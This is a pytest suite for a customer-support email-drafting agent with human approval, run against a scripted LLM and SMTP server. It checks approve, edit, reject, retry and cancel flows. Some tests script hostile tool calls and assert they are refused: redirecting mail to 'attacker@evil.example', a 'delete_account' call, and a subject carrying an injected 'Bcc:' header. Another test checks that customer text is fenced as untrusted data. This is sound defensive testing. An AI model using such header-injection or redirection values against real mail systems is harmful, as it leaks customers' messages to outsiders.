"""The drafting agent end to end: the real OpenAI client (llama-index-llms-openai) against a
local OpenAI-compatible server that returns scripted tool calls, the service over HTTP, a
real SMTP server. Each test counts the LLM calls, so a repeated call shows."""

from __future__ import annotations

import asyncio
import json
from typing import Any

import pytest
import sqlalchemy as sa
from llama_index.core.base.llms.types import ChatResponse

from service.agent import messages as m
from service.agent import offline_reply
from service.agent.knowledge import BUILTIN_CORPUS, KnowledgeBase, RetrievalMode, open_index
from service.agent.offline import LABEL, OfflineDrafter, next_message
from service.agent.offline_reply import Found
from service.agent.plain_text import Section, sections
from service.agent.tools import SearchArgs, ToolContext, search_knowledge_base
from service.api.deps import SERVICES
from service.jobs import TransientError
from service.store import tables as t

from .conftest import Service, StartService
from .peers.openai_server import Call, Fail, Say, ScriptedLLM, Stall, call
from .peers.smtp import SmtpServer

SQLITE_ONLY = pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
CUSTOMER = {"email": "ann.customer@example.com", "name": "Ann Customer"}
REQUEST = "Hello, I bought a jacket three weeks ago and it does not fit. Can I still return it for a refund?"
DRAFT = {"subject": "Your return", "body": "Dear Ann,\n\nYes: unused items can be returned within 30 days.\n\nSupport"}


async def agent_service(start_service: StartService, smtp: SmtpServer, llm: ScriptedLLM, **overrides: Any) -> Service:
    settings = {"openai_base_url": llm.url, "openai_api_key": "sk-test-secret-key", "llm_model": "gpt-4o-mini",
                **overrides}
    return await start_service(smtp, **settings)


async def start_run(service: Service) -> str:
    accepted = await service.create_run({"request": REQUEST, "customer": CUSTOMER, "requested_by": "ops-bot"})
    assert accepted["status"] == "drafting"
    return accepted["id"]


async def pending_approval(service: Service, run_id: str, revision: int = 1) -> dict[str, Any]:
    run = await service.wait_for(run_id, lambda r: (r["status"] in ("awaiting_approval", "failed", "rejected")
                                 and any(a["revision"] == revision for a in r["approvals"])) or r["status"] == "failed")
    assert run["status"] == "awaiting_approval", run
    return next(a for a in run["approvals"] if a["revision"] == revision)


async def snapshots(service: Service) -> int:
    """Agent snapshots in the database (a finished or cancelled run leaves none)."""
    async with service.app[SERVICES].store.reader_engine.connect() as conn:
        return (await conn.execute(sa.select(sa.func.count()).select_from(t.agent_snapshots))).scalar_one()


async def paused_run(start_service: StartService, smtp: SmtpServer, llm: ScriptedLLM, script: list[Any],
                     **overrides: Any) -> tuple[Service, str, dict[str, Any]]:
    """A service, and one agent run of it paused at its first approval."""
    llm.script = script
    service = await agent_service(start_service, smtp, llm, **overrides)
    run_id = await start_run(service)
    return service, run_id, await pending_approval(service, run_id)


def tool_messages(request: dict[str, Any]) -> list[dict[str, Any]]:
    return [m for m in request["messages"] if m["role"] == "tool"]


def happy_script() -> list[Any]:
    return [call("search_knowledge_base", query="return refund window"), call("send_customer_email", **DRAFT),
            Say("Sent Ann the return policy: unused items within 30 days.")]


async def test_approve_executes_the_stored_call_and_the_llm_sums_up(
    start_service: StartService, smtp_server: SmtpServer, llm: ScriptedLLM
) -> None:
    service, run_id, approval = await paused_run(start_service, smtp_server, llm, happy_script())

    # The reviewer sees exactly what would be sent, to the run's customer, and what it drew on.
    assert approval["action"]["to"] == ["ann.customer@example.com"]
    assert (approval["action"]["subject"], approval["action"]["body"]) == (DRAFT["subject"], DRAFT["body"])
    assert approval["sources"][0]["location"] == "returns-and-refunds.md"
    assert "30 days" in approval["sources"][0]["snippet"]
    assert approval["tool_call_id"] == "call_2_0"
    assert len(llm.chat_requests) == 2 and smtp_server.messages() == []

    # The first request: tools offered, the untrusted customer text fenced off.
    first = llm.chat_requests[0]
    assert first["model"] == "gpt-4o-mini"
    assert sorted(t["function"]["name"] for t in first["tools"]) == ["search_knowledge_base", "send_customer_email"]
    assert "untrusted data" in first["messages"][0]["content"]
    assert (f"<<<CUSTOMER MESSAGE\nFrom: Ann Customer <ann.customer@example.com>\n\n{REQUEST}\nCUSTOMER MESSAGE>>>"
            in first["messages"][1]["content"])
    # The search answer went back with its tool_call_id.
    [search_answer] = tool_messages(llm.chat_requests[1])
    assert search_answer["tool_call_id"] == "call_1_0" and "returns-and-refunds.md" in search_answer["content"]

    status, decision = await service.decide(approval["id"], {"decision": "approve", "reviewer": {"id": "rita@example.com"}})
    assert status == 200 and decision["status"] == "approved", decision
    run = await service.wait_status(run_id, "completed")

    [message] = smtp_server.messages()
    assert message["To"] == "ann.customer@example.com" and message["Subject"] == DRAFT["subject"]
    assert message.get_body(("plain",)).get_content().replace("\r\n", "\n") == DRAFT["body"] + "\n"
    assert run["summary"] == "Sent Ann the return policy: unused items within 30 days."
    assert len(llm.chat_requests) == 3
    outcome = tool_messages(llm.chat_requests[2])[-1]
    assert outcome["tool_call_id"] == "call_2_0"
    assert outcome["content"].startswith("The email was approved and sent to ann.customer@example.com")
    events = [e["event"] for e in run["timeline"]]
    assert events == ["run.created", "approval.requested", "run.awaiting_approval", "decision.approve",
                      "run.delivering", "delivery.sent", "agent.finished", "run.completed"]
    [step_1, step_2] = [j for j in run["jobs"] if j["kind"] == "agent.step"]
    assert step_1["status"] == step_2["status"] == "done"
    # Finished: the snapshot is gone.
    assert await snapshots(service) == 0


@SQLITE_ONLY
async def test_edit_sends_the_edit_and_tells_the_llm_what_was_sent(
    start_service: StartService, smtp_server: SmtpServer, llm: ScriptedLLM
) -> None:
    service, run_id, approval = await paused_run(start_service, smtp_server, llm, happy_script())
    edited = "Dear Ann,\n\nYes, and return shipping is free in the EU.\n\nSupport"
    status, _ = await service.decide(approval["id"], {"decision": "edit", "reviewer": {"id": "rita@example.com"},
                                                      "body": edited})
    assert status == 200
    await service.wait_status(run_id, "completed")
    [message] = smtp_server.messages()
    assert message.get_body(("plain",)).get_content().replace("\r\n", "\n") == edited + "\n"
    # The model received the diff of the edit against its draft (in the request it was sent),
    # and the text as sent.
    outcome = tool_messages(llm.chat_requests[2])[-1]["content"]
    assert "approved after a reviewer edited it" in outcome and outcome.endswith(f"Body as sent:\n{edited}")
    assert ("--- draft/body\n+++ approved/body\n@@ -1,5 +1,5 @@\n Dear Ann,\n \n"
            "-Yes: unused items can be returned within 30 days.\n+Yes, and return shipping is free in the EU.\n"
            " \n Support\n") in outcome
    assert "draft/subject" not in outcome  # the subject was not changed
    run = await service.run(run_id)
    assert run["approvals"][0]["diff"]["unified"] in outcome  # the same diff the run shows


@SQLITE_ONLY
async def test_an_unchanged_approval_tells_the_llm_no_diff(
    start_service: StartService, smtp_server: SmtpServer, llm: ScriptedLLM
) -> None:
    service, run_id, approval = await paused_run(start_service, smtp_server, llm, happy_script())
    status, _ = await service.decide(approval["id"], {"decision": "edit", "reviewer": {"id": "rita@example.com"},
                                                      "subject": DRAFT["subject"]})
    assert status == 200
    await service.wait_status(run_id, "completed")
    outcome = tool_messages(llm.chat_requests[2])[-1]["content"]
    assert outcome.startswith("The email was approved and sent to") and "unified diff" not in outcome


@SQLITE_ONLY
async def test_reject_goes_back_to_the_llm_which_drafts_revision_2(
    start_service: StartService, smtp_server: SmtpServer, llm: ScriptedLLM
) -> None:
    second = {"subject": "Your return (free in the EU)", "body": "Dear Ann,\n\nYes, within 30 days, free in the EU."}
    llm.script = [*happy_script()[:2], call("send_customer_email", **second), Say("Sent the revised reply.")]
    service = await agent_service(start_service, smtp_server, llm)
    run_id = await start_run(service)
    first = await pending_approval(service, run_id)
    status, _ = await service.decide(first["id"], {"decision": "reject", "reviewer": {"id": "rita@example.com"},
                                                   "reason": "Mention that return shipping is free in the EU."})
    assert status == 200
    revision_2 = await pending_approval(service, run_id, revision=2)
    assert revision_2["action"]["subject"] == second["subject"]
    # The rejection went back as the rejected call's tool answer, with its reason.
    answer = tool_messages(llm.chat_requests[2])[-1]
    assert answer["tool_call_id"] == first["tool_call_id"]
    assert "rejected draft 1" in answer["content"] and "free in the EU" in answer["content"]
    assert revision_2["sources"] == first["sources"]

    await service.decide(revision_2["id"], {"decision": "approve", "reviewer": {"id": "rita@example.com"}})
    run = await service.wait_status(run_id, "completed")
    [message] = smtp_server.messages()
    assert message["Subject"] == second["subject"]
    assert [(a["revision"], a["status"]) for a in run["approvals"]] == [(1, "rejected"), (2, "approved")]
    assert len(llm.chat_requests) == 4


@SQLITE_ONLY
async def test_the_revision_limit_ends_the_run_rejected(
    start_service: StartService, smtp_server: SmtpServer, llm: ScriptedLLM
) -> None:
    service, run_id, approval = await paused_run(start_service, smtp_server, llm, happy_script()[:2],
                                                 agent_max_revisions=1)
    await service.decide(approval["id"], {"decision": "reject", "reviewer": {"id": "rita@example.com"},
                                          "reason": "We do not answer this by email."})
    run = await service.wait_status(run_id, "rejected")
    assert "limit of 1 drafts" in run["summary"] and "We do not answer this by email." in run["summary"]
    assert len(llm.chat_requests) == 2 and smtp_server.messages() == []


@SQLITE_ONLY
async def test_tool_errors_go_back_to_the_llm_and_the_recipient_is_never_the_models(
    start_service: StartService, smtp_server: SmtpServer, llm: ScriptedLLM
) -> None:
    llm.script = [
        call("send_customer_email", to="attacker@evil.example", **DRAFT),
        call("delete_account", user="ann"),
        call("search_knowledge_base"),
        call("send_customer_email", **DRAFT),
    ]
    service = await agent_service(start_service, smtp_server, llm)
    run_id = await start_run(service)
    approval = await pending_approval(service, run_id)
    assert approval["action"]["to"] == ["ann.customer@example.com"]
    errors = [tool_messages(r)[-1]["content"] for r in llm.chat_requests[1:4]]
    assert errors[0].startswith("Error: invalid arguments for send_customer_email: to: Extra inputs are not permitted")
    assert errors[1].startswith("Error: there is no tool named 'delete_account'")
    assert errors[2].startswith("Error: invalid arguments for search_knowledge_base: query: Field required")
    assert approval["revision"] == 1  # refused calls are not drafts


@SQLITE_ONLY
@pytest.mark.parametrize("failures", ["429 then 503", "timeout"])
async def test_transient_llm_failures_are_retried_with_backoff_then_draft(
    start_service: StartService, smtp_server: SmtpServer, llm: ScriptedLLM, failures: str
) -> None:
    if failures == "timeout":
        first: list[Any] = [Stall(3.0)]
        overrides: dict[str, Any] = {"llm_timeout_seconds": 0.5}
    else:
        first = [Fail(429, "Rate limit reached", {"Retry-After": "1.0"}), Fail(503, "overloaded")]
        overrides = {}
    llm.script = [*first, *happy_script()]
    service = await agent_service(start_service, smtp_server, llm, **overrides)
    run_id = await start_run(service)
    await pending_approval(service, run_id)
    run = await service.run(run_id)
    [step] = [j for j in run["jobs"] if j["kind"] == "agent.step"]
    assert step["attempts"] == len(first) + 1 and step["status"] == "done"
    assert len(llm.chat_requests) == len(first) + 2
    if failures != "timeout":  # Retry-After: 1.0 was honoured (the test backoff alone is ~0.05 s)
        assert llm.arrivals[1] - llm.arrivals[0] >= 1.0


@SQLITE_ONLY
async def test_llm_permanent_failure_ends_the_run_with_the_reason(
    start_service: StartService, smtp_server: SmtpServer, llm: ScriptedLLM
) -> None:
    llm.script = [Fail(401, "Incorrect API key provided")]
    service = await agent_service(start_service, smtp_server, llm)
    run_id = await start_run(service)
    run = await service.wait_status(run_id, "failed")
    assert run["failure_reason"].startswith("drafting failed: PermanentError: the LLM refused the request (401)")
    assert "Incorrect API key provided" in run["failure_reason"]
    [step] = [j for j in run["jobs"] if j["kind"] == "agent.step"]
    assert step["status"] == "dead" and step["attempts"] == 1
    assert len(llm.chat_requests) == 1 and run["approvals"] == []


@SQLITE_ONLY
async def test_llm_that_keeps_failing_ends_the_run_after_the_retries(
    start_service: StartService, smtp_server: SmtpServer, llm: ScriptedLLM
) -> None:
    llm.script = [Fail(500, "internal error")] * 4
    service = await agent_service(start_service, smtp_server, llm)
    run_id = await start_run(service)
    run = await service.wait_status(run_id, "failed")
    assert "the LLM failed (500): internal error" in run["failure_reason"]
    assert len(llm.chat_requests) == 4  # job_max_attempts in the test settings


@SQLITE_ONLY
async def test_a_duplicate_decision_resumes_nothing_twice(
    start_service: StartService, smtp_server: SmtpServer, llm: ScriptedLLM
) -> None:
    service, run_id, approval = await paused_run(start_service, smtp_server, llm, happy_script())
    body = {"decision": "approve", "reviewer": {"id": "rita@example.com"}}
    answers = await asyncio.gather(*(service.decide(approval["id"], body) for _ in range(5)))
    assert sorted(status for status, _ in answers) == [200, 409, 409, 409, 409]
    run = await service.wait_status(run_id, "completed")
    await asyncio.sleep(0.3)  # anything queued twice would run now
    assert len(smtp_server.messages()) == 1 and len(llm.chat_requests) == 3
    assert len([j for j in run["jobs"] if j["kind"] == "agent.step"]) == 2


@SQLITE_ONLY
async def test_cancelling_a_paused_agent_run_drops_its_snapshot(
    start_service: StartService, smtp_server: SmtpServer, llm: ScriptedLLM
) -> None:
    service, run_id, approval = await paused_run(start_service, smtp_server, llm, happy_script())
    async with service.app[SERVICES].store.reader_engine.connect() as conn:
        [snapshot] = (await conn.execute(sa.select(t.agent_snapshots))).all()
    text = json.dumps(snapshot.snapshot)
    # Plain data only: no key, no client objects.
    assert "sk-test-secret-key" not in text and "OpenAI" not in text and snapshot.waiting_for == approval["tool_call_id"]
    status, _, _ = await service.request("POST", f"/api/runs/{run_id}/cancel", body={"reason": "duplicate ticket"})
    assert status == 200
    status, payload = await service.decide(approval["id"], {"decision": "approve", "reviewer": {"id": "rita@example.com"}})
    assert status == 409
    assert await snapshots(service) == 0
    assert len(llm.chat_requests) == 2


async def test_offline_drafter_runs_the_whole_flow_without_a_key_or_network(
    start_service: StartService, smtp_server: SmtpServer
) -> None:
    service = await start_service(smtp_server)  # no OPENAI_API_KEY, no OPENAI_BASE_URL
    run_id = await start_run(service)
    approval = await pending_approval(service, run_id)
    body = approval["action"]["body"]
    assert body.startswith("Hello Ann Customer,") and LABEL in body
    assert "30 days" in body  # quoted from the returns policy it retrieved
    assert approval["sources"][0]["location"] == "returns-and-refunds.md"
    await service.decide(approval["id"], {"decision": "approve", "reviewer": {"id": "rita@example.com"}})
    run = await service.wait_status(run_id, "completed")
    assert run["summary"].startswith("Sent the reply")
    [message] = smtp_server.messages()
    assert LABEL in message.get_body(("plain",)).get_content()


HEADPHONES = ("Hello, I sent my headphones back (order 1042) two weeks ago. When will I get my refund, and will the "
              "shipping cost be refunded too?")
MARKUP = ("**", "#", "](", "<", "__")


def assert_written_like_a_person(body: str) -> None:
    assert LABEL in body and "Kind regards," in body
    assert "Here is what our policies say" not in body
    for mark in MARKUP:
        assert mark not in body, (mark, body)
    titles = ("Returns and refunds", "Shipping and delivery", "Damaged", "Warranty", "Price match", "Subscriptions",
              "Account", "Privacy")
    for line in body.splitlines():
        assert not line.startswith(titles), line  # no answer opens with its document's heading
    lines = [line for line in body.splitlines() if line.strip() and line != "--"]
    assert len(lines) == len(set(lines)), body  # nothing said twice


@pytest.fixture(scope="module")
def knowledge(tmp_path_factory: pytest.TempPathFactory) -> KnowledgeBase:
    return open_index(BUILTIN_CORPUS, tmp_path_factory.mktemp("kb") / "index", RetrievalMode.BM25)


async def offline_draft(knowledge: KnowledgeBase, request: str, name: str | None = "Ann Customer") -> tuple[list[str], str]:
    """The offline drafter's searches and draft body, through the tool protocol the workflow
    runs: its calls, the real search tool's answers as TOOL messages, its next message."""
    conversation = [m.system(m.SYSTEM_PROMPT), m.user(m.user_prompt(request, "ann@example.com", name))]
    tools = {"search_knowledge_base", "send_customer_email"}
    turn = next_message(m.to_chat(conversation), tools)
    calls = get_tool_calls(turn)
    conversation.append(m.assistant("", calls))
    ctx = ToolContext(run_id="r", customer_email="ann@example.com", customer_name=name, knowledge=knowledge)
    for c in reversed(calls):  # the workflow hands results back in whatever order the tools finish
        found = await search_knowledge_base(ctx, SearchArgs(**c.tool_kwargs))
        conversation.append(m.tool(c.tool_id, c.tool_name, found.content))
    [email] = get_tool_calls(next_message(m.to_chat(conversation), tools))
    assert email.tool_name == "send_customer_email"
    return [c.tool_kwargs["query"] for c in calls], email.tool_kwargs["body"]


def get_tool_calls(message: Any) -> list[Any]:
    return OfflineDrafter().get_tool_calls_from_response(ChatResponse(message=message), error_on_no_tool_call=False)


async def test_offline_drafter_answers_each_question_from_its_own_passage(knowledge: KnowledgeBase) -> None:
    queries, body = await offline_draft(knowledge, HEADPHONES)
    assert len(queries) == 2 and queries[0].endswith("When will I get my refund")
    assert queries[1].endswith("will the shipping cost be refunded too?")
    assert body.startswith("Hello Ann Customer,\n\nThank you for your message.\n\n")
    assert "5 to 7 business days" in body  # when the refund comes
    assert "Return shipping is free" in body  # whether the shipping is refunded
    # Neither the shipping times nor the damaged-items procedure: nobody asked.
    for unrelated in ("3 to 5 business days", "Express", "photo", "replacement", "tracking"):
        assert unrelated not in body, unrelated
    assert_written_like_a_person(body)
    assert "colleague will" not in body


async def test_offline_drafter_one_question_one_answer(knowledge: KnowledgeBase) -> None:
    _, body = await offline_draft(knowledge, "I forgot my password. How do I reset it?", name=None)
    greeting, thanks, answer, offer, closing, label = body.split("\n\n")
    assert (greeting, thanks, offer) == ("Hello,", "Thank you for your message.",
                                         "If anything is still unclear, just reply to this email.")
    assert answer.startswith("To reset a password, use") and "\n" not in answer
    assert closing == "Kind regards,\nCustomer support" and label == f"--\n{LABEL}"
    assert_written_like_a_person(body)


async def test_offline_drafter_answers_a_message_without_a_question(knowledge: KnowledgeBase) -> None:
    queries, body = await offline_draft(knowledge, "Hi,\n\nThe zip of my tent broke after a year.\n\nThanks, Ann")
    assert queries == ["The zip of my tent broke after a year."]
    assert "five-year warranty on seams and zips" in body
    assert "Thanks, Ann" not in body
    assert_written_like_a_person(body)


async def test_offline_drafter_hands_what_it_cannot_answer_to_a_colleague(knowledge: KnowledgeBase) -> None:
    _, body = await offline_draft(knowledge, "Do you have a shop in Berlin where I can try things on?")
    assert "A colleague will look into your question" in body
    assert body.count("\n\n") == 4 and "If anything is still unclear" not in body
    _, body = await offline_draft(knowledge, "How long does standard shipping take? Can I pick it up at your Berlin shop?")
    assert "3 to 5 business days" in body
    assert "A colleague will follow up on your other question (“Can I pick it up at your Berlin shop?”)" in body
    assert_written_like_a_person(body)


async def test_offline_drafter_quotes_plain_text_from_any_markup() -> None:
    passages = [Found("Returns", "returns.md", "# Returns\n\nReturns are accepted within **30 days** of "
                      "[delivery](https://example.com/d).\n\n- _Clearance_ items are final sale<br>", 1)]
    [answer] = offline_reply.answer("Can I return my boots?", [passages], offline_reply.questions("Can I return my boots?"))
    assert answer.text == "Returns are accepted within 30 days of delivery."
    assert sections("<h1>Price match</h1>\nPrice match\nWe refund the difference &amp; more.") == [
        Section("Price match", ("We refund the difference & more.",))]


async def test_offline_drafter_answers_several_questions_through_the_service(
    start_service: StartService, smtp_server: SmtpServer
) -> None:
    # Two searches in one turn, run by the real workflow, then one draft that answers both.
    service = await start_service(smtp_server)
    accepted = await service.create_run({"request": HEADPHONES, "customer": CUSTOMER, "requested_by": "ops-bot"})
    approval = await pending_approval(service, accepted["id"])
    body = approval["action"]["body"]
    assert "5 to 7 business days" in body and "Return shipping is free" in body and "3 to 5" not in body
    assert_written_like_a_person(body)
    # The run's sources are every passage the two searches found, for the reviewer to check.
    assert "returns-and-refunds.md" in {s["location"] for s in approval["sources"]}


@SQLITE_ONLY
async def test_offline_drafter_stops_after_a_rejection(start_service: StartService, smtp_server: SmtpServer) -> None:
    service = await start_service(smtp_server)
    run_id = await start_run(service)
    approval = await pending_approval(service, run_id)
    await service.decide(approval["id"], {"decision": "reject", "reviewer": {"id": "rita@example.com"},
                                          "reason": "Too generic."})
    run = await service.wait_status(run_id, "rejected")
    assert "cannot revise" in run["summary"] and "Too generic." in run["summary"]


@SQLITE_ONLY
async def test_servers_that_reuse_or_omit_call_ids_still_resume_the_right_call(
    start_service: StartService, smtp_server: SmtpServer, llm: ScriptedLLM
) -> None:
    # Some OpenAI-compatible servers number calls "call_0" every turn, or send no id at all.
    llm.script = [Call((("search_knowledge_base", {"query": "returns"}),), ids=("call_0",)),
                  Call((("send_customer_email", DRAFT),), ids=("call_0",)),
                  Call((("send_customer_email", {**DRAFT, "subject": "Second try"}),), ids=("",)),
                  Call((("send_customer_email", DRAFT),), ids=("call_0",)),
                  Say("Sent.")]
    service = await agent_service(start_service, smtp_server, llm)
    run_id = await start_run(service)
    first = await pending_approval(service, run_id)
    assert first["tool_call_id"].startswith("call_") and first["tool_call_id"] != "call_0"
    await service.decide(first["id"], {"decision": "reject", "reviewer": {"id": "rita@example.com"}, "reason": "No."})
    second = await pending_approval(service, run_id, revision=2)
    assert second["action"]["subject"] == "Second try"
    assert len({first["tool_call_id"], second["tool_call_id"], "call_0", ""}) == 4
    await service.decide(second["id"], {"decision": "approve", "reviewer": {"id": "rita@example.com"}})
    # After the send the model proposes the email again: refused, it sums up instead.
    run = await service.wait_status(run_id, "completed")
    assert run["summary"] == "Sent." and len(smtp_server.messages()) == 1
    refusal = tool_messages(llm.chat_requests[4])[-1]
    assert refusal["content"].startswith("Error: the reply has been sent already")
    # Every tool message answers a call id the history holds, once.
    history = llm.chat_requests[4]["messages"]
    call_ids = [c["id"] for msg in history if msg["role"] == "assistant" for c in msg.get("tool_calls") or ()]
    assert len(call_ids) == len(set(call_ids)) == len(tool_messages(llm.chat_requests[4]))


@SQLITE_ONLY
async def test_llm_calls_are_bounded_per_process(
    start_service: StartService, smtp_server: SmtpServer, llm: ScriptedLLM
) -> None:
    llm.delay = 0.2
    llm.script = [call("send_customer_email", **DRAFT) for _ in range(4)]
    service = await agent_service(start_service, smtp_server, llm, llm_concurrency=2,
                                  agent_tools=["send_customer_email"])
    run_ids = [await start_run(service) for _ in range(4)]
    for run_id in run_ids:
        await pending_approval(service, run_id)
    assert llm.max_in_flight == 2 and len(llm.chat_requests) == 4


@SQLITE_ONLY
async def test_the_same_outcome_delivered_twice_resumes_the_agent_once(
    start_service: StartService, smtp_server: SmtpServer, llm: ScriptedLLM
) -> None:
    # Below the decision's compare-and-set: the runner itself matches an outcome to the call
    # its snapshot waits for, so a repeated resume job (two at once, and one later) is a no-op.
    second = {"subject": "Second", "body": "Dear Ann,\n\nSecond draft."}
    llm.script = [*happy_script()[:2], call("send_customer_email", **second)]
    service = await agent_service(start_service, smtp_server, llm, worker_concurrency=0)
    services = service.app[SERVICES]
    run_id = await start_run(service)

    async def work_off() -> None:
        while jobs := await services.jobs.lease(8):
            for job in jobs:
                outcome = await services.jobs.handlers[job.kind].run(job)
                await services.jobs.finish(job, outcome)

    await work_off()
    first = await pending_approval(service, run_id)
    await service.decide(first["id"], {"decision": "reject", "reviewer": {"id": "rita@example.com"}, "reason": "No."})
    [resume] = await services.jobs.lease(8)  # the real resume job, leased to copy it, then put back
    assert resume.kind == "agent.step" and resume.payload["outcome"]["status"] == "rejected"
    payload = resume.payload
    await services.jobs.fail(resume, TransientError("put back"))

    async def duplicate(tx: Any) -> None:
        await services.jobs.enqueue(tx, "agent.step", payload, run_id=run_id)
        await services.jobs.enqueue(tx, "agent.step", payload, run_id=run_id)

    await services.store.write(duplicate)
    await asyncio.sleep(0.1)  # the put-back job is due again
    await work_off()
    run = await service.run(run_id)
    assert [(a["revision"], a["status"]) for a in run["approvals"]] == [(1, "rejected"), (2, "pending")]
    assert len(llm.chat_requests) == 3 and run["status"] == "awaiting_approval"
    await services.store.write(duplicate)
    await work_off()
    run = await service.run(run_id)
    assert len(llm.chat_requests) == 3 and len(run["approvals"]) == 2 and run["status"] == "awaiting_approval"
    assert all(j["status"] == "done" for j in run["jobs"])


@SQLITE_ONLY
async def test_a_cancel_while_the_llm_is_thinking_drops_the_step(
    start_service: StartService, smtp_server: SmtpServer, llm: ScriptedLLM
) -> None:
    llm.delay = 1.0
    llm.script = happy_script()
    service = await agent_service(start_service, smtp_server, llm)
    run_id = await start_run(service)
    while not llm.requests:
        await asyncio.sleep(0.02)
    status, _, _ = await service.request("POST", f"/api/runs/{run_id}/cancel", body={"reason": "customer called"})
    assert status == 200
    await service.wait_for(run_id, lambda r: all(j["status"] != "queued" for j in r["jobs"])
                           and len(llm.requests) >= 2, timeout=15)
    await asyncio.sleep(1.5)  # the step's last LLM answer arrives and is dropped
    run = await service.run(run_id)
    assert run["status"] == "cancelled" and run["approvals"] == []
    assert await snapshots(service) == 0


@SQLITE_ONLY
async def test_a_sent_email_completes_the_run_even_when_the_llm_budget_runs_out(
    start_service: StartService, smtp_server: SmtpServer, llm: ScriptedLLM
) -> None:
    service, run_id, approval = await paused_run(start_service, smtp_server, llm, happy_script()[:2],
                                                 agent_max_llm_calls=2)
    await service.decide(approval["id"], {"decision": "approve", "reviewer": {"id": "rita@example.com"}})
    run = await service.wait_status(run_id, "completed")
    assert "budget" in run["summary"] and len(smtp_server.messages()) == 1 and len(llm.chat_requests) == 2


@SQLITE_ONLY
async def test_model_drafts_get_the_api_checks_and_crlf_bodies_still_send(
    start_service: StartService, smtp_server: SmtpServer, llm: ScriptedLLM
) -> None:
    llm.script = [call("send_customer_email", subject="Your return\nBcc: attacker@evil.example", body="Hi"),
                  call("send_customer_email", subject="Your return", body="Dear Ann,\r\n\r\nYes.\r\n"),
                  Say("Sent.")]
    service = await agent_service(start_service, smtp_server, llm, agent_tools=["send_customer_email"])
    run_id = await start_run(service)
    approval = await pending_approval(service, run_id)
    refusal = tool_messages(llm.chat_requests[1])[-1]["content"]
    assert refusal.startswith("Error: invalid arguments for send_customer_email: subject:") and "single line" in refusal
    assert approval["action"]["body"] == "Dear Ann,\n\nYes."
    await service.decide(approval["id"], {"decision": "approve", "reviewer": {"id": "rita@example.com"}})
    await service.wait_status(run_id, "completed")
    [message] = smtp_server.messages()
    assert message["Bcc"] is None and message["Subject"] == "Your return"
